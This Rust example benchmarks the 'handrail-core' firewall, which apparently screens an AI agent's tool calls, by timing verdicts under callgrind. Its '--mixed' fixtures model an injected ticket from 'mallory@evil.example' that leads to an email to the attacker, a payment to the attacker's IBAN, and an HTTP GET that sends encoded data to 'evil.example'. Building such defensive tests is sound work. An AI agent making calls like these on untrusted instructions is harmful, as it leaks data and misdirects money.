//! Runs N verdicts against the same 10,000-node profile as `benches/firewall.rs`, for
//! counting instructions per verdict where wall-clock benches are too noisy:
//!
//! ```sh
//! cargo build --release -p handrail-core --example firewall_verdicts
//! valgrind --tool=callgrind --collect-atstart=no --toggle-collect='*run_verdicts*' \
//!     target/release/examples/firewall_verdicts 10000
//! ```
//!
//! Instructions per verdict = the collected `Ir` / N (only `run_verdicts` is counted, not
//! building the profile). Besides the bench's call (no destinations), `--mixed` also checks
//! calls that carry an e-mail address, an IBAN and a URL, so the provenance path is counted.

use std::hint::black_box;

use handrail_core::firewall::{Call, Firewall, Mode, Outcome, Policy, Session};
use serde_json::{json, Value};

const NOW: i64 = 1_767_225_600;

/// The bench's deterministic generator (xorshift).
struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// The bench's argument shapes: up to five string fields and an id.
fn args_for(shape: u64) -> Value {
    let mut map = serde_json::Map::new();
    for bit in 0..5 {
        if shape & (1 << bit) != 0 {
            map.insert(format!("field_{bit}"), json!("value"));
        }
    }
    map.insert("id".into(), json!(shape));
    Value::Object(map)
}

/// The bench's profile: 500 tools × 20 shapes, random walks favouring a few successors.
fn build(observations: usize) -> (Firewall, Vec<(String, Value)>) {
    let tools: Vec<String> = (0..500).map(|i| format!("tool_{i}_update")).collect();
    let shapes: Vec<Value> = (0..20).map(args_for).collect();
    let mut fw = Firewall::new(Policy::default(), Default::default());
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut done = 0;
    let mut last_calls = Vec::new();
    while done < observations {
        let mut state = fw.begin("s", "update records");
        let mut tool = rng.below(500) as usize;
        last_calls.clear();
        for _ in 0..10 {
            let shape = rng.below(20) as usize;
            let c = Call { tool: &tools[tool], args: &shapes[shape], effect: None, cost_usd: None };
            fw.record(&mut state, &c, Outcome::Trusted, None, NOW);
            last_calls.push((tools[tool].clone(), shapes[shape].clone()));
            tool = (tool + 1 + rng.below(4) as usize) % 500;
            done += 1;
        }
    }
    fw.mode = Mode::Enforce;
    (fw, last_calls)
}

/// The measured loop: nothing else runs while callgrind collects.
#[inline(never)]
fn run_verdicts(fw: &Firewall, session: &Session, calls: &[Call<'_>], n: usize) -> usize {
    let mut held = 0;
    for i in 0..n {
        let call = &calls[i % calls.len()];
        let verdict = fw.check(black_box(session), black_box(call), NOW);
        held += usize::from(verdict.action != handrail_core::firewall::Action::Allow);
    }
    held
}

fn main() {
    let mut n = 10_000;
    let mut mixed = false;
    for arg in std::env::args().skip(1) {
        if arg == "--mixed" {
            mixed = true;
        } else if let Ok(parsed) = arg.parse() {
            n = parsed;
        }
    }
    let (fw, calls) = build(200_000);
    let (prev_tool, prev_args) = &calls[calls.len() - 2];
    let mut session = fw.begin("bench", "update records for ana@acme.example, link https://acme.example/a");
    fw.observe_only(
        &mut session,
        &Call { tool: prev_tool, args: prev_args, effect: None, cost_usd: None },
        Some("ticket from mallory@evil.example, pay DE89 3704 0044 0532 0130 00"),
    );
    let (tool, args) = &calls[calls.len() - 1];
    let mut checked = vec![Call { tool, args, effect: None, cost_usd: None }];
    let destinations = [
        json!({"to": "ana@acme.example", "subject": "hi", "body": "see attached"}),
        json!({"to": "Mallory <mallory@evil.example>", "cc": ["ana@acme.example"]}),
        json!({"iban": "DE89 3704 0044 0532 0130 00", "amount": 12.5, "memo": "invoice"}),
        json!({"url": "https://evil.example/c?d=aGVsbG8gd29ybGQgc2VjcmV0", "method": "GET"}),
        json!({"path": "/finance/reports/paid.csv", "target": "prod", "id": 7}),
    ];
    if mixed {
        let tools = ["send_email", "send_email", "pay_invoice", "http_get", tool.as_str()];
        checked.extend(tools.iter().zip(&destinations).map(|(t, a)| Call {
            tool: t,
            args: a,
            effect: None,
            cost_usd: None,
        }));
    }
    for call in &checked {
        let v = fw.check(&session, call, NOW);
        let codes: Vec<&str> = v.reasons.iter().map(|r| r.code.as_str()).collect();
        println!("{}: {} {:.2} {codes:?}", call.tool, v.action.as_str(), v.score);
    }
    let held = run_verdicts(&fw, &session, &checked, n);
    println!("{n} verdicts over {} calls, {held} held", checked.len());
}
